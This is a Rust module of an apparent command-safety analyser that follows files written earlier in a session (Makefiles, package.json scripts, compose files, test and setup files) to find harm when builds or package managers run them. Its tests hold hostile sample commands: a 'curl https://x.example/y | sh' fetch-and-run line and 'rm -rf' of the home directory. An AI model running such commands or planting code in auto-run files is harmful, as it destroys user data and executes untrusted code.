//! Programs that run what lies in the project: builds, tests, package managers. What this command line wrote there before
//! runs with them.

use std::collections::HashMap;

use rampart_call::{Certainty, Effect, EffectKind};

use super::Walk;
use crate::knowledge::{Language, Usage};
use crate::value::{Arg, Flow, Taint};

/// Most files that are looked at.
const MAX_FILES: usize = 16;
/// How deep variables of a makefile are filled in, how many are, and about how much text comes of it.
const MAX_DEPTH: usize = 4;
const MAX_FILLED: usize = 512;
const MAX_EXPANDED: usize = 16 * 1024;

impl Walk<'_> {
    /// Follows what was written before a program that runs code of the project. What would do harm is kept.
    pub(super) fn runs_project(&mut self, name: &str, usage: &Usage) {
        if self.written.is_empty() || self.in_project {
            return;
        }
        let mut files: Vec<(String, Flow)> = self
            .written
            .iter()
            .filter(|(path, written)| written.flow.text.is_some() && !path.starts_with("/dev/"))
            .map(|(path, written)| (path.clone(), written.flow.clone()))
            .collect();
        files.sort_by(|a, b| a.0.cmp(&b.0));
        let fetched = |(path, written): (&String, &super::env::Written)| {
            let file = path.rsplit('/').next().unwrap_or("");
            let picked_up = if composes(name) { is_composition(file) } else { is_picked_up(file) };
            written.flow.text.is_none() && written.flow.taint.has(Taint::DOWNLOADED) && picked_up
        };
        if self.written.iter().any(fetched) {
            self.note(EffectKind::Exec, "download-run");
        }
        self.in_project = true;
        for (path, flow) in files.into_iter().take(MAX_FILES) {
            let file = path.rsplit('/').next().unwrap_or("");
            let text = flow.text.as_deref().unwrap_or("");
            let (language, text) = match file {
                // what is composed runs elsewhere, with what it is given of this machine
                _ if is_composition(file) => (Language::Manifest, text.to_owned()),
                _ if composes(name) => continue,
                "Makefile" | "makefile" | "GNUmakefile" | "justfile" | "Justfile" => {
                    (Language::Shell, recipes(text, usage))
                }
                "package.json" | "composer.json" | "deno.json" => (Language::Shell, scripts(text)),
                "Rakefile" | "Gemfile" | "Vagrantfile" | "Podfile" | "Fastfile" | "Guardfile" | "Dangerfile" => {
                    (Language::Ruby, text.to_owned())
                }
                _ => match crate::code::language_of(file) {
                    // no build starts a script by itself
                    Some(Language::Shell) | None => continue,
                    Some(language) => (language, text.to_owned()),
                },
            };
            let arg = Arg { taint: flow.taint, ..Arg::literal(text, self.span) };
            self.suspected(name, |walk| walk.inline(language, &arg));
        }
        self.in_project = false;
    }

    /// Follows code once for each value that its loops run over. `read` is told which, and says how many there are; what a
    /// reading finds once more is not said twice.
    pub(crate) fn readings(&mut self, mut read: impl FnMut(&mut Self, usize) -> usize) {
        let before = self.out.effects.len();
        let cwd = self.env.cwd.clone();
        for choice in 1..read(self, 0) {
            let from = self.out.effects.len();
            let entered = std::mem::replace(&mut self.env.cwd, cwd.clone());
            read(self, choice);
            self.env.cwd = entered;
            for effect in self.out.effects.split_off(from) {
                if !self.out.effects.iter().skip(before).any(|known| *known == effect) {
                    self.out.effects.push(effect);
                }
            }
        }
    }

    /// Follows a makefile that these words make.
    pub(crate) fn makefile(&mut self, name: &str, makefile: &Flow, usage: &Usage) {
        if let Some(text) = &makefile.text {
            let arg = Arg { taint: makefile.taint, ..Arg::literal(recipes(text, usage), self.span) };
            self.suspected(name, |walk| walk.inline(Language::Shell, &arg));
        } else if makefile.taint.has(Taint::DOWNLOADED) {
            self.note(EffectKind::Exec, "download-run");
        }
    }

    /// Follows what may run, or may be something else: what would do harm is kept, and nothing is made of the rest.
    pub(super) fn suspected(&mut self, name: &str, f: impl FnOnce(&mut Self) -> Flow) {
        let before = self.out.effects.len();
        let certainty = std::mem::replace(&mut self.certainty, Certainty::Possible);
        let span = self.span;
        let cwd = self.env.cwd.clone();
        self.nested(name, f);
        self.env.cwd = cwd;
        self.span = span;
        self.certainty = certainty;
        let harmless = |e: &Effect| {
            // data of its own is what an application changes
            e.kind == EffectKind::Opaque
                || e.kind == EffectKind::RemoteMutate
                || e.kind == EffectKind::Exec && matches!(e.note.as_str(), "" | "unknown-program" | "computed-path")
        };
        let kept: Vec<Effect> =
            self.out.effects.drain(before..).filter(|e| !harmless(e) || e.note == "budget").collect();
        self.out.effects.extend(kept);
    }
}

/// Files that `docker compose` takes without being told (the Compose specification, "The Compose file").
fn is_composition(file: &str) -> bool {
    let name = file.strip_prefix("docker-").unwrap_or(file);
    name.starts_with("compose.") && (name.ends_with(".yml") || name.ends_with(".yaml"))
}

/// It starts what a composition says.
fn composes(name: &str) -> bool {
    matches!(name, "docker" | "podman" | "nerdctl" | "docker-compose" | "podman-compose")
}

/// Files that builds, tests and package managers run because of their name.
fn is_picked_up(file: &str) -> bool {
    const NAMES: [&str; 21] = [
        "conftest.py",
        "setup.py",
        "noxfile.py",
        "fabfile.py",
        "tasks.py",
        "sitecustomize.py",
        "manage.py",
        "package.json",
        "Makefile",
        "makefile",
        "GNUmakefile",
        "justfile",
        "Rakefile",
        "Gemfile",
        "Vagrantfile",
        "build.rs",
        "gradlew",
        "mvnw",
        "CMakeLists.txt",
        "Jenkinsfile",
        "configure",
    ];
    NAMES.contains(&file)
        || file.contains(".config.") && [".js", ".cjs", ".mjs", ".ts"].iter().any(|end| file.ends_with(end))
        || file.starts_with("test_") && file.ends_with(".py")
        || [".gradle", ".gradle.kts", ".gemspec", "_test.go", ".test.js", ".test.ts", ".spec.ts"]
            .iter()
            .any(|e| file.ends_with(e))
}

/// What `make` with these words runs of a makefile, as shell text: the recipes of its goals and of what they need, all of them
/// where a goal is not written in it, and what is run while the file is read.
fn recipes(text: &str, usage: &Usage) -> String {
    let dry = ["-n", "--dry-run", "--just-print", "--recon"].iter().any(|o| usage.has(o));
    let mut rules: Vec<(Vec<&str>, Vec<&str>, Vec<&str>)> = Vec::new();
    let mut lines = Vec::new();
    let variables = make_variables(text);
    for line in text.lines() {
        if let Some(recipe) = line.strip_prefix(['\t', ' ']) {
            match rules.last_mut() {
                Some((.., recipes)) => recipes.push(recipe),
                None => lines.push(recipe),
            }
            continue;
        }
        if line.contains("$(shell ") {
            lines.push(line.split_once('=').map_or(line, |(_, value)| value));
        }
        if let Some((names, needs)) =
            line.split_once(':').filter(|(names, needs)| !names.contains('=') && !needs.starts_with('='))
        {
            let (needs, recipe) = needs.split_once(';').unwrap_or((needs, ""));
            let recipe: Vec<&str> = Some(recipe).filter(|r| !r.is_empty()).into_iter().collect();
            rules.push((names.split_whitespace().collect(), needs.split_whitespace().collect(), recipe));
        }
    }
    let goals = usage.operands.iter().map(|goal| goal.text.as_str()).filter(|goal| !goal.contains('='));
    let mut goals: Vec<&str> = goals.collect();
    let written = |goal: &&str| rules.iter().any(|(names, ..)| names.contains(goal));
    if goals.is_empty() {
        goals.extend(rules.iter().filter_map(|(names, ..)| names.first()).find(|name| !name.starts_with('.')));
    }
    let all = goals.is_empty() || !goals.iter().all(written) || text.contains('%') || text.contains("include");
    let mut at = 0;
    while let Some(goal) = goals.get(at).copied().filter(|_| !all) {
        let needs = rules.iter().filter(|(names, ..)| names.contains(&goal)).flat_map(|(_, needs, _)| needs);
        let more: Vec<&str> = needs.copied().filter(|need| !goals.contains(need)).collect();
        goals.extend(more);
        at += 1;
    }
    let runs = |names: &[&str]| all || names.iter().any(|name| goals.contains(name));
    let followed = rules.iter().filter(|(names, ..)| !dry && runs(names));
    lines.extend(followed.flat_map(|(.., recipes)| recipes.iter().copied()));
    let mut filled = 0;
    let plain = lines.into_iter().map(|line| {
        let line = line.trim_start().trim_start_matches(['@', '-', '+']);
        expanded(line, &variables, 0, &mut filled).replace("$(shell ", "$$(")
    });
    let mut out = String::new();
    for line in plain {
        // `$(NAME)` is a variable, `$$` the dollar of the shell
        let mut rest = line.trim_start_matches(['@', '-', '+']);
        while let Some((before, after)) = rest.split_once('$') {
            out.push_str(before);
            out.push('$');
            rest = match after.strip_prefix('$') {
                Some(after) => after,
                None => match after.strip_prefix('(').and_then(|inside| inside.split_once(')')) {
                    Some((name, after)) if name.bytes().all(|b| b == b'_' || b.is_ascii_alphanumeric()) => {
                        out.push('{');
                        out.push_str(name);
                        out.push('}');
                        after
                    }
                    _ => after,
                },
            };
        }
        out.push_str(rest);
        out.push('\n');
    }
    out
}

/// What variables of a makefile are given: `NAME = value`, `NAME := value`, `NAME ?= value`, `NAME += value`.
fn make_variables(text: &str) -> HashMap<&str, String> {
    let mut variables: HashMap<&str, String> = HashMap::new();
    for line in text.lines().filter(|line| !line.starts_with(['\t', ' ', '#'])) {
        let Some((name, value)) = line.split_once('=') else { continue };
        let adds = name.ends_with('+');
        let name = name.trim_end_matches([':', '?', '+', '!']).trim();
        if name.is_empty() || !name.bytes().all(|b| b == b'_' || b.is_ascii_alphanumeric()) {
            continue;
        }
        let held = variables.entry(name).or_default();
        if adds {
            held.push(' ');
        } else {
            held.clear();
        }
        held.push_str(value.trim());
    }
    variables
}

/// A line of a makefile with its variables and calls (`$(call NAME,one,two)`) filled in, as far as they are given in it.
fn expanded(line: &str, variables: &HashMap<&str, String>, depth: usize, filled: &mut usize) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some((before, after)) = rest.split_once('$') {
        out.push_str(before);
        let inside = after.strip_prefix(['(', '{']).and_then(|inside| inside.split_once([')', '}']));
        let goes_on = depth < MAX_DEPTH && *filled < MAX_FILLED && out.len() < MAX_EXPANDED;
        let given = inside.filter(|_| goes_on).and_then(|(inside, behind)| {
            let mut words = inside.strip_prefix("call ").unwrap_or(inside).split(',');
            let mut value = variables.get(words.next()?.trim())?.clone();
            for (number, word) in (1..).zip(words) {
                value = value.replace(&format!("$({number})"), word);
            }
            Some((value, behind))
        });
        match (given, after.strip_prefix('$')) {
            (Some((value, behind)), _) => {
                *filled += 1;
                out.push_str(&expanded(&value, variables, depth + 1, filled));
                rest = behind;
            }
            (None, Some(behind)) => {
                out.push_str("$$");
                rest = behind;
            }
            (None, None) => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The scripts of a `package.json`, one a line.
fn scripts(text: &str) -> String {
    let behind = text.split_once("\"scripts\"").map_or("", |(_, rest)| rest);
    let inside = behind.split('}').next().unwrap_or("").replace("\\\"", "\u{1}");
    let values = inside.split('"').skip(3).step_by(4).map(|value| value.replace('\u{1}', "\""));
    values.collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use rampart_call::Span;

    use super::{Usage, recipes, scripts};
    use crate::value::Arg;

    #[test]
    fn what_runs_is_cut_from_its_file() {
        for (text, goal, runs) in [
            ("a:\n\t@rm -rf $(OUT) $$HOME\nb = c\n", "", "rm -rf ${OUT} $HOME\n"),
            ("a:\n\techo $(shell id)\n", "a", "echo $(id)\n"),
            (".PHONY: a b\na: c\n\tone\nb:\n\ttwo\nc: ; three\n", "a", "one\nthree\n"),
            ("a:\n\tone\nb:\n\ttwo\n", "b", "two\n"),
            ("a:\n\tone\nb:\n\ttwo\n", "elsewhere", "one\ntwo\n"),
            ("a:\n\tone\nb:\n\ttwo\n", "-n", ""),
            ("X := $(shell id)\na:\n\tone\n", "-n", "$(id)\n"),
            ("J := b $(HOME)\na:\n\t@rm -r $(J)\n", "", "rm -r b ${HOME}\n"),
            (
                "P = curl $(U)/$(1) | sh\nU = https://x.example\na:\n\t@$(call P,y)\n",
                "",
                "curl https://x.example/y | sh\n",
            ),
        ] {
            let word = Arg::literal(goal, Span { start: 0, end: 0 });
            let usage = match goal {
                "" => Usage::default(),
                "-n" => Usage { flags: vec![goal.to_owned()], ..Usage::default() },
                _ => Usage { operands: vec![word], ..Usage::default() },
            };
            assert_eq!(recipes(text, &usage), runs, "{text} {goal}");
        }
        assert_eq!(scripts(r#"{"scripts": {"a": "x \"y\"", "b": "z"}, "c": "d"}"#), "x \"y\"\nz");
        assert_eq!(scripts("{}"), "");
    }
}
